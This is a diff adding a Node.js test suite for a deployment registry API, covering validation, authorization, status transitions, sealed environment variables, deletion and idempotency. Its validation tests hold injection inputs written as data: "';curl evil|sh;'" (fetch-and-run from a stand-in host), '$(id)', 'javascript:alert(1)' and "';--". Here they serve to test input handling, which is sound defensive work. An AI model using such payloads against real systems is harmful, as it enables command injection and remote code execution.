@@ -1,0 +1,304 @@
+// What is to run on the fleet: the registry of deployments.
+
+import assert from "node:assert/strict";
+import test, { after } from "node:test";
+import { startStackAuth } from "./fakes/stack-auth.js";
+import { fleet, pointers, send } from "./fleet.js";
+import { pages, problem, rowCounts, startWorker } from "./harness.js";
+import { ADMIN_TOKEN, people, production, STAFF_DOMAIN } from "./people.js";
+
+const stack = await startStackAuth();
+after(() => stack.close());
+const worker = await startWorker({ ...production(stack), SEALING_KEY: "5e".repeat(32) });
+const { sql, url } = worker;
+const { signIn, mint, newKey, findNoSecret, secret } = people(worker, stack);
+const { call, ok, as, row } = fleet(worker);
+
+const me = await signIn();
+const other = await signIn();
+const staff = mint({ email: `ops@${STAFF_DOMAIN}`, email_verified: true });
+/** The service that deploys what is registered. */
+const deployer = (await newKey(staff, { scopes: ["deploy", "fleet:deploy"] })).key;
+
+const GITHUB = "https://github.com/acme/app";
+const STATUSES = ["pending", "processing", "success", "failed"];
+const COLUMNS = "branch createdAt creator envVarNames errorMessage github id name port replicas status updatedAt url";
+
+let names = 0;
+const newName = () => `app-${(names += 1)}`;
+const fields = (more = {}) => ({ name: newName(), github: GITHUB, creator: me.wallet.address, ...more });
+const create = (more, token = me.token) => ok(201, "POST", "/deployments", fields(more), token);
+const stored = (name) => row("SELECT * FROM fleet_deployments WHERE name = ?", name);
+
+/** Puts a deployment into a status, whichever it is in. */
+const put = (name, status) => sql("UPDATE fleet_deployments SET status = ? WHERE name = ?", status, name);
+
+test("A deployment is created pending, with what was left out filled in", async () => {
+  const sent = fields();
+  const response = await call("POST", "/deployments", sent, me.token);
+  assert.equal(response.status, 201);
+  assert.equal(response.headers.get("location"), `/deployments/${sent.name}`);
+  const created = await response.json();
+  assert.equal(Object.keys(created).sort().join(" "), COLUMNS);
+  assert.ok(Number.isSafeInteger(created.id));
+  assert.equal(created.createdAt, created.updatedAt);
+  assert.match(created.createdAt, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+  const { id, createdAt, updatedAt, ...rest } = created;
+  assert.deepEqual(rest, {
+    name: sent.name, url: null, port: 3000, branch: "main", status: "pending", github: GITHUB, replicas: 1,
+    creator: me.wallet.address.toLowerCase(), errorMessage: null, envVarNames: [],
+  });
+  assert.deepEqual(await ok(200, "GET", `/deployments/${sent.name}`, undefined, me.token), created);
+});
+
+test("Each name that the documents give a field is understood", async () => {
+  for (const [name, github, env] of [["name", "github", "envVars"], ["app_name", "github_repo", "env_vars"], ["appName", "githubRepo", "envVars"]]) {
+    const given = newName();
+    const sent = { [name]: given, [github]: `${GITHUB}.git`, creator: me.wallet.address, [env]: { A: "1" }, port: 8080, branch: "a/b", replicas: 10 };
+    const created = await ok(201, "POST", "/deployments", sent, me.token);
+    assert.deepEqual(
+      [created.name, created.github, created.port, created.branch, created.replicas, created.envVarNames],
+      [given, `${GITHUB}.git`, 8080, "a/b", 10, ["A"]],
+    );
+  }
+});
+
+test("One answer names every field that is wrong, and nothing is written", async () => {
+  const before = await rowCounts(worker);
+  const bad = { app_name: "A!", githubRepo: "acme/app", creator: "';curl evil|sh;'", port: 0, branch: "a..b", replicas: 11, envVars: [] };
+  const all = await problem(await call("POST", "/deployments", bad, me.token), 400);
+  assert.deepEqual(pointers(all), ["/app_name", "/githubRepo", "/creator", "/port", "/branch", "/replicas", "/envVars"]);
+  assert.deepEqual(pointers(await problem(await call("POST", "/deployments", {}, me.token), 400)), ["/name", "/github", "/creator"]);
+
+  for (const [field, values] of Object.entries({
+    name: ["", "1a", "-a", "a-", "a_b", "Abc", "a".repeat(21), 5, null, ["a"], "ä", "a b", "a\n"],
+    github: ["", "http://github.com/a/b", "https://gitlab.com/a/b", "https://github.com/a", "https://github.com/a/b?x", "git@github.com:a/b", `https://github.com/a/${"b".repeat(101)}`, 1],
+    creator: ["", "0x12", `0x${"g".repeat(40)}`, me.wallet.address.slice(2), `${me.wallet.address} `, 1],
+    port: [0, 65_536, -1, 1.5, "3000", true],
+    replicas: [0, 11, -1, 2.5, "2"],
+    branch: ["", "a b", "-x", "a..b", "refs/", "x".repeat(256), 1],
+    envVars: ["A=1", [], { "1A": "x" }, { "A-B": "x" }, { "": "x" }, { A: 1 }, { A: null }, { A: "x".repeat(64 * 1024) },
+      Object.fromEntries(Array.from({ length: 101 }, (_, n) => [`V${n}`, ""]))],
+  })) {
+    for (const value of values) {
+      const told = await problem(await call("POST", "/deployments", fields({ [field]: value }), me.token), 400);
+      assert.deepEqual(pointers(told), [`/${field}`], JSON.stringify(value).slice(0, 80));
+    }
+  }
+  for (const body of ["", "{", "[]", "null", "1", '{"name":"a\\u0000"}']) await problem(await call("POST", "/deployments", body, me.token), 400);
+  assert.deepEqual(await rowCounts(worker), before);
+});
+
+test("A name is taken once, by whoever comes first", async () => {
+  const { name } = await create({});
+  const before = await stored(name);
+  await problem(await call("POST", "/deployments", fields({ name, port: 1 }), me.token), 409, "name_taken");
+  await problem(await call("POST", "/deployments", fields({ name, creator: other.wallet.address }), other.token), 409, "name_taken");
+  assert.deepEqual(await stored(name), before);
+
+  const wanted = newName();
+  const answers = await Promise.all(Array.from({ length: 20 }, () => call("POST", "/deployments", fields({ name: wanted }), me.token)));
+  assert.deepEqual(answers.map(({ status }) => status).sort(), [201, ...Array(19).fill(409)]);
+});
+
+test("Whoever deploys does it for their own wallet, a deployer for anybody's", async () => {
+  await problem(await call("POST", "/deployments", fields({ creator: other.wallet.address }), me.token), 403, "not_your_wallet");
+  const walletless = mint({});
+  await problem(await call("POST", "/deployments", fields(), walletless), 403, "not_your_wallet");
+  const created = await create({ creator: other.wallet.address }, deployer);
+  assert.equal(created.creator, other.wallet.address.toLowerCase());
+  await problem(await call("POST", "/deployments", fields()), 401);
+  const { key } = await newKey(me.token, { scopes: ["projects:read"] });
+  await problem(await call("POST", "/deployments", fields(), key), 403, "insufficient_scope");
+});
+
+test("What a deployer registers for a wallet is its user's to see and to change", async () => {
+  const { name } = await create({ creator: other.wallet.address }, deployer);
+  assert.equal((await ok(200, "GET", `/deployments/${name}`, undefined, other.token)).name, name);
+  const listed = await ok(200, "GET", "/deployments?limit=100", undefined, other.token);
+  assert.ok(listed.some((each) => each.name === name));
+  assert.equal((await ok(200, "PATCH", `/deployments/${name}/replicas`, { replicas: 2 }, other.token)).replicas, 2);
+  await problem(await call("GET", `/deployments/${name}`, undefined, me.token), 404);
+});
+
+test("A list has one's own, newest first, by creator and by status, page by page", async () => {
+  const lister = await signIn();
+  const creator = lister.wallet.address;
+  const made = [];
+  for (let n = 0; n < 7; n++) made.push(await create({ creator }, lister.token));
+  for (const { name } of made.slice(0, 3)) await put(name, "failed");
+  const newest = made.toSorted((a, b) => b.createdAt.localeCompare(a.createdAt) || (b.name > a.name ? 1 : -1)).map(({ name }) => name);
+
+  const listed = async (path, token = lister.token) => {
+    const found = [];
+    for await (const page of pages(as(token), path)) {
+      assert.ok(page.length <= 2);
+      found.push(...page.map(({ name }) => name));
+    }
+    return found;
+  };
+  assert.deepEqual(await listed("/deployments?limit=2"), newest);
+  assert.deepEqual(await listed("/deployments?limit=2&status=failed"), newest.filter((name) => made.slice(0, 3).some((each) => each.name === name)));
+  assert.deepEqual(await listed("/deployments?limit=2&status=success"), []);
+  assert.deepEqual(await listed(`/deployments?limit=2&creator=0x${creator.slice(2).toUpperCase()}`), newest);
+  assert.deepEqual(await listed(`/deployments?limit=2&creator=${other.wallet.address}`), []);
+  assert.deepEqual(await listed(`/deployments?limit=2&creator=${creator}`, deployer), newest);
+  assert.deepEqual(await listed(`/deployments?limit=2&creator=${creator}`, ADMIN_TOKEN), newest);
+
+  for (const query of ["status=done", "status=", "creator=me", "limit=0", "limit=101", "cursor=x"]) {
+    await problem(await call("GET", `/deployments?${query}`, undefined, lister.token), 400);
+  }
+});
+
+test("A status follows the one before it, and every other change is refused naming the present one", async () => {
+  const follows = { pending: "failed", processing: "pending", success: "processing", failed: "processing" };
+  const { name } = await create({});
+  for (const from of STATUSES) {
+    for (const to of STATUSES) {
+      await put(name, from);
+      const before = await stored(name);
+      const response = await call("PATCH", `/deployments/${name}/status`, { status: to }, me.token);
+      if (follows[to] === from) {
+        assert.equal(response.status, 200, `${from} → ${to}`);
+        assert.equal((await response.json()).status, to);
+      } else {
+        const { detail } = await problem(response, 409, "status_conflict");
+        assert.match(detail, new RegExp(`is \`${from}\``));
+        assert.deepEqual(await stored(name), before, `${from} → ${to}`);
+      }
+    }
+  }
+  for (const body of [{}, { status: "done" }, { status: 1 }, { status: "Success" }]) {
+    await problem(await call("PATCH", `/deployments/${name}/status`, body, me.token), 400);
+  }
+});
+
+test("A failure has its message until it is tried again, and a URL stays", async () => {
+  const { name } = await create({});
+  const go = (body) => ok(200, "PATCH", `/deployments/${name}/status`, body, deployer);
+  assert.equal((await go({ status: "processing", url: "https://app.example:8443/x" })).url, "https://app.example:8443/x");
+  const failed = await go({ status: "failed", error_message: "no such branch" });
+  assert.deepEqual([failed.errorMessage, failed.url], ["no such branch", "https://app.example:8443/x"]);
+  const again = await go({ status: "pending" });
+  assert.deepEqual([again.errorMessage, again.url], [null, "https://app.example:8443/x"]);
+  for (const bad of ["javascript:alert(1)", "ftp://a", "a", "", 1]) {
+    const told = await problem(await call("PATCH", `/deployments/${name}/status`, { status: "processing", url: bad, errorMessage: "" }, deployer), 400);
+    assert.deepEqual(pointers(told), ["/url", "/errorMessage"]);
+  }
+});
+
+test("Of changes of a status at once exactly one wins", async () => {
+  const { name } = await create({});
+  await put(name, "processing");
+  const changes = Array.from({ length: 20 }, (_, n) => ({ status: n % 2 ? "success" : "failed", url: `https://app.example/${n}` }));
+  const answers = await Promise.all(changes.map((body) => call("PATCH", `/deployments/${name}/status`, body, me.token)));
+  const won = answers.findIndex(({ status }) => status === 200);
+  assert.deepEqual(answers.map(({ status }) => status).sort(), [200, ...Array(19).fill(409)]);
+  const { status, url: kept } = await stored(name);
+  assert.deepEqual({ status, url: kept }, changes[won]);
+});
+
+test("Variables are sealed at rest and named to their owner, and a deployer alone reads them", async () => {
+  const token = secret("vault-5d1c9b-correct-horse-battery");
+  const later = secret("vault-77aa01-staple-again-and-again");
+  const { name, envVarNames } = await create({ envVars: { API_TOKEN: token, EMPTY: "", "_x1": 'ä"\\\n$(id)' } });
+  assert.deepEqual(envVarNames.toSorted(), ["API_TOKEN", "EMPTY", "_x1"]);
+  const path = `/deployments/${name}/env`;
+  const read = await call("GET", path, undefined, deployer);
+  assert.equal(read.headers.get("cache-control"), "no-store");
+  assert.deepEqual(await read.json(), { envVars: { API_TOKEN: token, EMPTY: "", "_x1": 'ä"\\\n$(id)' } });
+  assert.equal((await ok(200, "GET", path, undefined, ADMIN_TOKEN)).envVars.API_TOKEN, token);
+  for (const refused of [me.token, other.token, (await newKey(me.token, { scopes: ["deploy"] })).key]) {
+    await problem(await call("GET", path, undefined, refused), 403, "insufficient_scope");
+  }
+  await problem(await call("GET", path), 401);
+  await problem(await call("POST", "/auth/keys", { name: "x", scopes: ["fleet:deploy"] }, me.token), 403);
+
+  const changed = await ok(200, "PATCH", path, { envVars: { LATER: later }, port: 81 }, me.token);
+  assert.deepEqual([changed.envVarNames, changed.port], [["LATER"], 81]);
+  assert.deepEqual(await ok(200, "GET", path, undefined, deployer), { envVars: { LATER: later } });
+
+  // A sealed text opens in its own row alone.
+  const { name: thief } = await create({ envVars: { A: "b" } });
+  await sql("UPDATE fleet_deployments SET env_sealed = (SELECT env_sealed FROM fleet_deployments WHERE name = ?) WHERE name = ?", name, thief);
+  await problem(await call("GET", `/deployments/${thief}/env`, undefined, deployer), 503, "not_configured");
+
+  const rows = await sql("SELECT env_sealed FROM fleet_deployments WHERE env_sealed IS NOT NULL");
+  assert.ok(rows.length >= 2 && rows.every(({ env_sealed }) => env_sealed.startsWith("v1.")));
+  await findNoSecret();
+  const cleared = await ok(200, "PATCH", path, { envVars: {} }, me.token);
+  assert.deepEqual([cleared.envVarNames, cleared.port], [[], 81]);
+  assert.equal((await stored(name)).env_sealed, null);
+  assert.deepEqual(await ok(200, "GET", path, undefined, deployer), { envVars: {} });
+});
+
+test("Replicas are from 1 to 10", async () => {
+  const { name } = await create({});
+  assert.equal((await ok(200, "PATCH", `/deployments/${name}/replicas`, { replicas: 10 }, me.token)).replicas, 10);
+  for (const replicas of [0, 11, "2", 1.5, null, undefined]) {
+    const told = await problem(await call("PATCH", `/deployments/${name}/replicas`, { replicas }, me.token), 400);
+    assert.deepEqual(pointers(told), ["/replicas"]);
+  }
+  assert.equal((await stored(name)).replicas, 10);
+});
+
+test("A deployment is deleted once, and its name is free again", async () => {
+  const { name, id } = await create({ envVars: { A: "b" } });
+  assert.deepEqual(await ok(200, "DELETE", `/deployments/${name}`, undefined, me.token), { success: true });
+  assert.equal((await problem(await call("DELETE", `/deployments/${name}`, undefined, me.token), 404)).error, "Not found");
+  assert.equal((await problem(await call("GET", `/deployments/${name}`, undefined, me.token), 404)).error, "Not found");
+  const again = await create({ name, creator: other.wallet.address }, other.token);
+  assert.notEqual(again.id, id);
+  assert.equal((await sql("SELECT * FROM audit_log WHERE action = 'fleet-deployment.delete' AND subject = ?", name)).length, 1);
+});
+
+test("Another's deployment is not there, by any route, and stays as it is", async () => {
+  const { name } = await create({ envVars: { A: "b" } });
+  const before = await stored(name);
+  const theirs = [other.token, (await newKey(other.token, { scopes: ["deploy"] })).key];
+  for (const token of theirs) {
+    for (const at of [name, "no-such-name", "%00", "A", "';--", "%F0%9F%A6%8A"]) {
+      for (const [method, path, body] of [
+        ["GET", ""], ["DELETE", ""], ["PATCH", "/status", { status: "processing" }], ["PATCH", "/env", { envVars: { A: "c" } }],
+        ["PATCH", "/env", { envVars: {} }], ["PATCH", "/replicas", { replicas: 3 }],
+      ]) {
+        assert.equal((await problem(await call(method, `/deployments/${at}${path}`, body, token), 404, "not_found")).detail, "Not found");
+      }
+    }
+  }
+  assert.deepEqual(await stored(name), before);
+  for (const [method, path, body] of [["GET", ""], ["DELETE", ""], ["PATCH", "/status", { status: "processing" }]]) {
+    await problem(await call(method, `/deployments/${name}${path}`, body), 401);
+  }
+});
+
+test("The same routes answer under /api/v1", async () => {
+  const name = newName();
+  const v1 = async (method, path, body) => {
+    const response = await send(url, method, `/api/v1${path}`, body, { authorization: `Bearer ${me.token}` });
+    return [response.status, await response.json()];
+  };
+  assert.equal((await v1("POST", "/deployments", fields({ name })))[0], 201);
+  assert.equal((await v1("GET", `/deployments/${name}`))[1].name, name);
+  assert.equal((await v1("PATCH", `/deployments/${name}/status`, { status: "processing" }))[1].status, "processing");
+  assert.deepEqual((await v1("PATCH", `/deployments/${name}/env`, { envVars: { A: "" } }))[1].envVarNames, ["A"]);
+  assert.equal((await v1("PATCH", `/deployments/${name}/replicas`, { replicas: 4 }))[1].replicas, 4);
+  const [status, [newest]] = await v1("GET", "/deployments?limit=1");
+  assert.deepEqual([status, newest], [200, (await v1("GET", `/deployments/${name}`))[1]]);
+  assert.deepEqual(await v1("DELETE", `/deployments/${name}`), [200, { success: true }]);
+  assert.equal((await v1("GET", `/deployments/${name}`))[0], 404);
+  assert.equal((await v1("GET", "/projects"))[0], 404);
+});
+
+test("A creation that is sent again with its Idempotency-Key is the same one", async () => {
+  const sent = fields({ envVars: { A: "b" } });
+  const headers = { "idempotency-key": "fleet-1" };
+  const again = () => ok(201, "POST", "/deployments", sent, me.token, headers);
+  const first = await again();
+  assert.deepEqual(await again(), first);
+  // The first one died before its answer was kept.
+  await sql("UPDATE idempotency SET status = NULL, body = NULL, headers = NULL, lease_until = 0 WHERE key = ?", "fleet-1");
+  assert.deepEqual(await again(), first);
+  assert.equal((await sql("SELECT * FROM fleet_deployments WHERE name = ?", sent.name)).length, 1);
+  await problem(await call("POST", "/deployments", { ...sent, port: 1 }, me.token, headers), 422, "idempotency_key_reused");
+});
